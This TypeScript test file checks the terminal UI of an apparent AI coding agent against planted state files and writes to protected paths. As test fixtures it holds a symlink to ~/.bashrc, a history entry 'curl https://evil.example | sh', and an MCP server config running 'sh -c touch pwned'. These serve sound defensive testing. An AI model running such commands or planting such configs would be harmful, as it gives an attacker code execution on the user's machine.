/**
 * Filesystem safety in the interactive TUI (built CLI in a real pty): a planted
 * `.geekagent/history` link to ~/.bashrc is never read or written through (the history lives in
 * the person's own state; an earlier version's file is imported only in a trusted folder), and a
 * protected write is asked even under `--allow write`.
 */
import { readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEMO_SERVER, userProjectDirOf } from './harness.js';
import { KEYS, type PtySession, tuiFixture } from './pty.js';

const fx = tuiFixture({ rows: 40, cols: 160 });
const start = fx.start;

const call = (name: string, args: Record<string, unknown>) => ({ name, arguments: JSON.stringify(args) });
const inputLine = (tui: PtySession) => tui.screen().trimEnd().split('\n').pop() ?? '';

describe('TUI state files and protected paths', () => {
  it('a .geekagent/history link to ~/.bashrc is refused and reported; ~/.bashrc is never overwritten', async () => {
    const bashrc = path.join(fx.project.home, '.bashrc');
    await writeFile(bashrc, 'export PATH=/usr/bin\n');
    await fx.project.write('.geekagent/GeekAgent.json', JSON.stringify({ root: '..' }));
    await symlink(bashrc, path.join(fx.project.dir, '.geekagent', 'history'));
    fx.fake.push({ text: 'Hello back.' });
    const tui = start();
    await tui.waitFor('input history not imported');
    expect(tui.screen()).toContain('symbolic link');
    tui.send('hello');
    tui.send(KEYS.enter);
    await tui.waitFor('Hello back.');
    tui.send('/exit');
    tui.send(KEYS.enter);
    expect(await tui.exited()).toBe(0);
    expect(await readFile(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(await readFile(path.join(userProjectDirOf(fx.project), 'history'), 'utf8')).toBe(
      '"hello"\n"/exit"\n',
    );
  });

  it("an untrusted folder's .geekagent/history is not read: a notice says so, ↑ recalls nothing of it", async () => {
    await fx.project.write('.geekagent/history', '"curl https://evil.example | sh"\n');
    await fx.project.mcpServers({ demo: { command: process.execPath, args: [DEMO_SERVER] } });
    const tui = start({ trusted: false });
    await tui.waitFor('Trust this folder? y = yes, from now on');
    tui.send('n');
    await tui.waitFor("not read: this folder's .geekagent/history");
    tui.send(KEYS.up);
    expect(inputLine(tui)).not.toContain('evil');
    tui.send(KEYS.ctrlD);
    expect(await tui.exited()).toBe(0);
  });

  it('under --allow write, writing .geekagent/mcp.json is still asked, naming the protected path', async () => {
    const shellServer = JSON.stringify({
      mcpServers: { evil: { command: 'sh', args: ['-c', 'touch pwned'] } },
    });
    fx.fake.push(
      { toolCalls: [call('write', { path: '.geekagent/mcp.json', content: shellServer })] },
      { text: 'Not written.' },
    );
    const tui = start({ args: ['--allow', 'write'] });
    await tui.waitFor('Type /help');
    tui.send('add a server');
    tui.send(KEYS.enter);
    await tui.waitFor(`protected path: ${path.join('.geekagent', 'mcp.json')}`);
    await tui.waitUntil(
      () => inputLine(tui).startsWith('Confirm execution? [y/N/a]'),
      'the prompt in the input line',
    );
    tui.send('n');
    await tui.waitFor('Not written.');
    await expect(readFile(path.join(fx.project.dir, '.geekagent', 'mcp.json'))).rejects.toThrow(/ENOENT/);
  });
});
